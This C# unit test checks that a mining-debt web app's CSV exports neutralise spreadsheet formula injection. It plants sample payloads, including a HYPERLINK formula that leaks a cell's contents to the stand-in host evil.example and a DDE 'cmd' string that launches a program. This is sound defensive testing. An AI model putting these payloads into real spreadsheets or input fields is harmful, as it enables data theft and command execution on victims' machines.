using System.Globalization;
using System.IO.Compression;
using CsvHelper;
using CsvHelper.Configuration;
using Microsoft.AspNetCore.Routing;
using Microsoft.Extensions.DependencyInjection;
using MinerDebt.Core.Book;
using MinerDebt.Core.Changes;
using MinerDebt.Core.Exchange;
using MinerDebt.Core.Model;
using MinerDebt.Web.Tests.Account;

namespace MinerDebt.Web.Tests.Downloads;

/// <summary>A text that a spreadsheet would take for a formula is one in no file.</summary>
public sealed class HarmlessTests
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

    [Fact]
    public async Task Get_EachCsv_HasNoCellThatASpreadsheetWouldCalculate()
    {
        await using var app = new AccountApp();
        var ann = await app.EnterAsync("ann@example.org");
        var books = app.Services.GetRequiredService<CurrentBook>();
        var facts = books.Value.Facts;
        var offering = facts.All<Offering>().First(one => one.Ticker == "RIOT");
        await books.ApplyAsync(new ChangeSet("Ann", ChangeOrigin.Form, "+1+cmd|' /C calc'!A0",
        [
            new(offering, offering with { Title = Formula, UseNote = "@SUM(1+1)", Notes = "-2+3" }),
            .. facts.All<DebtEvent>().Take(1).Select(one => new Change(one, one with { Notes = Formula })),
            .. facts.All<DebtBalance>().Take(1).Select(one => new Change(one, one with { Notes = Formula })),
            .. facts.All<HostingContract>().Take(1).Select(one => new Change(one, one with { Notes = Formula })),
            .. facts.All<Miner>().Take(1).Select(one => new Change(one, one with { Name = Formula })),
        ]), TestContext.Current.CancellationToken);

        var ofApi = app.Services.GetServices<EndpointDataSource>().SelectMany(source => source.Endpoints).OfType<RouteEndpoint>()
            .Select(endpoint => endpoint.RoutePattern).Where(pattern => pattern.Parameters.Count == 0).Select(pattern => $"/{pattern.RawText!.TrimStart('/')}")
            .Where(path => path.StartsWith("/api/", StringComparison.Ordinal) && path.EndsWith(".csv", StringComparison.Ordinal)).Distinct().ToList();
        Assert.Contains("/api/v1/offerings.csv", ofApi);
        var paths = ofApi.Concat(FileTests.Pages.Select(row => $"{row.Data}.csv")).Concat(FactKind.All.Select(kind => $"/admin/facts/{kind.Name}.csv")).ToList();
        var marked = 0;
        foreach (var path in paths)
        {
            using var answer = await ann.GetAsync(path);
            Assert.True(answer.IsSuccessStatusCode, path);
            marked += Check(path, await answer.Content.ReadAsStringAsync(TestContext.Current.CancellationToken));
        }

        await using var zip = await ZipArchive.CreateAsync(await ann.Client.GetStreamAsync("/download/minerdebt.zip", TestContext.Current.CancellationToken), ZipArchiveMode.Read, false, null, TestContext.Current.CancellationToken);
        foreach (var entry in zip.Entries.Where(entry => entry.Name.EndsWith(".csv", StringComparison.Ordinal)))
        {
            using var reader = new StreamReader(await entry.OpenAsync(TestContext.Current.CancellationToken));
            marked += Check(entry.Name, await reader.ReadToEndAsync(TestContext.Current.CancellationToken));
        }

        Assert.True(marked >= 10, $"{marked} cells were marked.");
    }

    // How many cells are marked as texts.
    private static int Check(string path, string text)
    {
        using var csv = new CsvParser(new StringReader(text), new CsvConfiguration(CultureInfo.InvariantCulture));
        var marked = 0;
        while (csv.Read())
        {
            Assert.Equal((path, ""), (path, string.Join(" | ", csv.Record!.Where(cell => cell.Length > 0 && "=+-@\t\r".Contains(cell[0]) && !decimal.TryParse(cell, NumberStyles.Float, CultureInfo.InvariantCulture, out _)))));
            marked += csv.Record!.Count(cell => cell.StartsWith("'=", StringComparison.Ordinal));
        }

        return marked;
    }
}
